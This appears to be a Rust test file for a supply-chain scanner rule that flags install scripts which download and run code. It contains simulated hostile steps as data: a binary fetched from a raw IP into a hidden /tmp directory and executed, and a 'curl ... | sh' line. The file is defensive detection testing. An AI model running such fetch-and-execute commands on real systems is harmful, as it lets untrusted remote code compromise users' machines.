use super::*;

#[test]
fn dsca1004_runs_a_downloaded_file() {
    let mut run = with_script(
        benign(),
        "node setup.js",
        vec![
            process(
                30,
                Some(29),
                "install",
                vec![exec(310, &["node", "setup.js"])],
            ),
            process(
                31,
                Some(30),
                "install",
                vec![exec(400, &["/tmp/.x/update", "--quiet"])],
            ),
        ],
    );
    run.files
        .push(file(FileOp::Create, "/tmp/.x/update", 30, 350));
    run.files
        .push(file(FileOp::MakeExecutable, "/tmp/.x/update", 30, 360));
    run.http
        .push(request("GET", "http://198.51.100.7/update", false));
    let found = findings(&run, "DSCA1004");
    assert_yaml_snapshot!(found);
    assert_eq!(found[0].severity, Severity::Critical);
}

#[test]
fn dsca1004_curl_piped_to_a_shell() {
    let run = with_script(
        benign(),
        "curl -fsSL https://get.example/i | sh",
        Vec::new(),
    );
    let found = findings(&run, "DSCA1004");
    assert_eq!(found.len(), 1);
    // Nothing answered outside the registry in this record: high, not critical.
    assert_eq!(found[0].severity, Severity::High);
}

#[test]
fn dsca1004_running_installed_package_files_is_normal() {
    let mut run = with_script(
        benign(),
        "node install.js",
        vec![process(
            30,
            Some(29),
            "install",
            vec![exec(310, &["node", "node_modules/demo-pkg/install.js"])],
        )],
    );
    run.files.push(file(
        FileOp::Create,
        "/home/user/project/node_modules/demo-pkg/install.js",
        1,
        40,
    ));
    assert!(findings(&run, "DSCA1004").is_empty());
    assert!(findings(&benign(), "DSCA1004").is_empty());
}
